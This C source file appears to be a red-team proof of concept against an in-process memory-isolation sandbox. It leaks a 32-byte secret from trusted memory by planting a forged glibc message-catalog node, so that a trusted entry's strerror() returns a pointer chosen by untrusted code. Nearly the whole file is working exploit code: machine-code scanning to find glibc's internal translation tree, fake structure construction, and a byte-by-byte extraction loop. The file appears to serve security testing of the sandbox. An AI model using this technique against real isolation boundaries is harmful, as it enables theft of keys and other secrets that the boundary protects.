// Trusted code's strerror() returns a pointer chosen by untrusted code.
//
// The trusted TCB (trusted_tls.cc) keeps glibc's per-thread locale pointer
// as the init-time image has it: &_nl_global_locale, and strerror() ->
// __dcigettext() consults glibc's *global* message-catalog state, all in
// libc's writable data (untrusted memory): before it even looks at the
// locale name ("C"), it searches the known-translation tree `root`
// (dcigettext.c, a static in libc .bss) with tfind() and, if a node
// matches (msgid, domain "libc", locale name, LC_MESSAGES) and its counter
// equals _nl_msg_cat_cntr, returns node->translation as the message.
// Untrusted code plants one node whose translation is the secret's address.
//
// The trusted entry is ordinary: it reads from a descriptor the caller
// names and, on failure, copies strerror(errno) into the caller's
// (checked, untrusted) buffer. Each call copies the secret from a chosen
// offset up to its next zero byte; 32 calls give all 32 bytes.
//
//   tools/cordon-pku-run --kernel 6.1 -- build/redteam/strerror_catalog
//   tools/cordon-pku-run --kernel 6.12 -- build/redteam/strerror_catalog
#define _GNU_SOURCE
#include <dlfcn.h>
#include <errno.h>
#include <libintl.h>
#include <search.h>
#include "common.h"

static cordon_entry g_read;
static uint8_t* g_buf;  // trusted: where the entry reads to

// An ordinary trusted entry: read up to 32 bytes from fd into trusted
// memory; on failure, tell the caller why in its own buffer.
static uint64_t e_read(uint64_t fd, uint64_t out, uint64_t outlen, uint64_t d, uint64_t e) {
  (void)d; (void)e;
  if (g_buf == NULL && cordon_malloc(32, (void**)&g_buf) != 0) return (uint64_t)-1;
  ssize_t n = read((int)fd, g_buf, 32);
  if (n >= 0) return (uint64_t)n;
  if (outlen == 0 || !cordon_is_untrusted_range((void*)out, outlen)) return (uint64_t)-1;
  const char* m = strerror(errno);
  size_t l = strlen(m);
  if (l >= outlen) l = outlen - 1;
  memcpy((void*)out, m, l);
  ((char*)out)[l] = 0;
  return (uint64_t)-1;
}

// glibc's struct known_translation_t (intl/dcigettext.c) as this libc lays
// it out (checked against transcmp's offsets), and tsearch's node.
struct known_translation {
  const char* domainname;  // 0x00
  int category;            // 0x08
  const char* localename;  // 0x10
  int counter;             // 0x18
  void* domain;            // 0x20: NULL, so msgid is a pointer
  const char* translation; // 0x28
  size_t translation_length;
  const char* msgid;       // 0x38
};
struct tnode {
  const void* key;
  uintptr_t left, right;
};
static struct known_translation g_kt;
static struct tnode g_node;

// Finds dcigettext.c's `root`: in __dcigettext, `lea rsi, [rip + root]`
// right before `call tfind`.
static void** find_root(void) {
  const uint8_t* p = (const uint8_t*)dlsym(RTLD_DEFAULT, "dcgettext");
  const uint8_t* tf = (const uint8_t*)dlsym(RTLD_DEFAULT, "tfind");
  if (!p || !tf) return NULL;
  for (int i = 0; i < 0x3000; i++) {
    if (p[i] == 0x48 && p[i + 1] == 0x8d && p[i + 2] == 0x35 && p[i + 7] == 0xe8) {
      int32_t d1, d2;
      memcpy(&d1, p + i + 3, 4);
      memcpy(&d2, p + i + 8, 4);
      if (p + i + 12 + d2 == tf) return (void**)(p + i + 7 + d1);
    }
  }
  return NULL;
}

int main(void) {
  setup(0);
  cordon_register(g_dom, e_read, "read", &g_read);
  const uint64_t want = cordon_call(g_hash, 0, 0, 0, 0, 0);
  if (cordon_lockdown() != 0) { printf("lockdown failed\n"); return 1; }
  char out[128];
  cordon_call(g_read, (uint64_t)-1, (uint64_t)out, sizeof out, 0, 0);
  printf("ordinary failing call: \"%s\"\n", out);

  void** root = find_root();
  int* cntr = (int*)dlsym(RTLD_DEFAULT, "_nl_msg_cat_cntr");
  printf("dcigettext root at %p (now %p), _nl_msg_cat_cntr at %p\n", (void*)root, root ? *root : 0, (void*)cntr);
  if (!root || !cntr) return 1;
  fflush(stdout);

  // The node the trusted strerror(EBADF) finds.
  g_kt.domainname = "libc";
  g_kt.category = LC_MESSAGES;
  g_kt.localename = "C";
  g_kt.counter = *cntr;
  g_kt.domain = NULL;
  g_kt.msgid = "Bad file descriptor";
  g_node.key = &g_kt;
  *root = &g_node;

  uint8_t got[32];
  for (int k = 0; k < 32;) {
    g_kt.translation = (const char*)(g_secret + k);
    memset(out, 0, sizeof out);
    cordon_call(g_read, (uint64_t)-1, (uint64_t)out, sizeof out, 0, 0);
    size_t l = strlen(out);
    if (l == 0) { got[k++] = 0; continue; }
    for (size_t j = 0; j < l && k < 32; j++) got[k++] = (uint8_t)out[j];
    if (k < 32) got[k++] = 0;  // the byte strlen stopped at
  }
  dump("read through trusted strerror()", got, 32);
  printf("%s\n", fnv(got, 32) == want ? "fnv matches the secret: SECRET LEAKED" : "fnv does not match");
  return 0;
}
